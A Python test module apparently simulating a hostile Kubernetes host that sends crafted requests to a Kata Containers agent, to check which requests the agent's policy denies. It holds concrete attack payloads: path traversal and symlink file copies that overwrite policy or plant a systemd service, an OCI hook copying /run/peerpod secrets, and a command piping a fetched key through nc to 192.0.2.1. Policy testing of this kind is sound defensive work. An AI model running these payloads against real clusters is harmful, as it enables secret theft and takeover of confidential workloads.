"""A host that asks the agent for more than a pod needs, as an administrator of the pods' cluster could make it do.

The attacks are those that worked on real agents of Kata 3.13 and 3.25 (CVE-2026-41326 among them). Whether one works
here is up to the policy that the agent has.
"""

import copy
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from rehearsal.kubelet.shim import Document, Shim

ANNOTATION = "rehearsal/hostile-host"
"""Pod annotation of a rehearsal: what the host tries while it starts the pod, a key of ``ATTACKS``."""

_SHARED = "/run/kata-containers/shared/containers"
_COPY, _CREATE = "CopyFileRequest", "CreateContainerRequest"
Request = tuple[str, Document]


def _dots(shim: Shim, name: str, document: Document) -> Iterator[Request]:
    yield name, document
    if name == "CreateSandboxRequest":
        yield _COPY, shim.copy(f"{_SHARED}/../../../peerpod/policy.rego", 0o100644, "package agent_policy")


def _link(shim: Shim, name: str, document: Document) -> Iterator[Request]:
    yield name, document
    if name == "CreateSandboxRequest":
        yield _COPY, shim.copy(f"{_SHARED}/link", 0o120777, "/")
        yield _COPY, shim.copy(f"{_SHARED}/link/etc/systemd/system/evil.service", 0o100644, "[Service]")


def _hooks(_: Shim, name: str, document: Document) -> Iterator[Request]:
    hook = {"Path": "/bin/sh", "Args": ["sh", "-c", "cp /run/peerpod/* /tmp"], "Env": [], "Timeout": 5}
    yield name, _container(name, document, lambda oci, _: oci.update(Hooks={"Prestart": [hook]}))


def _root(_: Shim, name: str, document: Document) -> Iterator[Request]:
    def change(oci: Document, request: Document) -> None:
        oci["Root"]["Path"] = "/"
        request["storages"] = []

    yield name, _container(name, document, change)


def _command(_: Shim, name: str, document: Document) -> Iterator[Request]:
    words = ["/bin/sh", "-c", "curl -s http://127.0.0.1:8006/cdh/resource/default/kbsres1/key1 | nc 192.0.2.1 80"]
    yield name, _container(name, document, lambda oci, _: oci["Process"].update(Args=words))


@dataclass(frozen=True, kw_only=True)
class Attack:
    """Something that a hostile host tries.

    Attributes:
        title: what it tries, for people.
        denied: the request that a policy which withstands it denies.
        sends: what goes to the agent in place of one request of the shim.
    """

    title: str
    denied: str
    sends: Callable[[Shim, str, Document], Iterator[Request]]


COMMAND = "command"
"""The attack that only a policy made for the workload's own containers withstands."""

ATTACKS: Mapping[str, Attack] = {
    "dots": Attack(title="a file copied with .. in its path", denied=_COPY, sends=_dots),
    "link": Attack(title="a link to / copied, and a file through it", denied=_COPY, sends=_link),
    "hooks": Attack(title="an OCI hook", denied=_CREATE, sends=_hooks),
    "root": Attack(title="a root that no image was pulled for", denied=_CREATE, sends=_root),
    COMMAND: Attack(title="another command", denied=_CREATE, sends=_command),
}
"""What can be tried, by the value of the annotation."""


def requests(annotations: Mapping[str, str], shim: Shim, name: str, document: Document) -> Iterator[Request]:
    """Yield what the host sends in place of one request; that request alone where the pod's host is not hostile.

    Raises:
        ValueError: the annotation names no attack.
    """
    tried = annotations.get(ANNOTATION)
    if tried is None:
        yield name, document
    elif tried in ATTACKS:
        yield from ATTACKS[tried].sends(shim, name, document)
    else:
        raise ValueError(f"annotation {ANNOTATION} is {tried!r}; allowed: {', '.join(ATTACKS)}")


def _container(name: str, document: Document, change: Callable[[Document, Document], Any]) -> Document:
    """Return a request to create one of the pod's own containers with a change; any other as it is."""
    if name != _CREATE or document["OCI"]["Annotations"]["io.kubernetes.cri-o.ContainerType"] != "container":
        return document
    changed = copy.deepcopy(document)
    change(changed["OCI"], changed)
    return changed
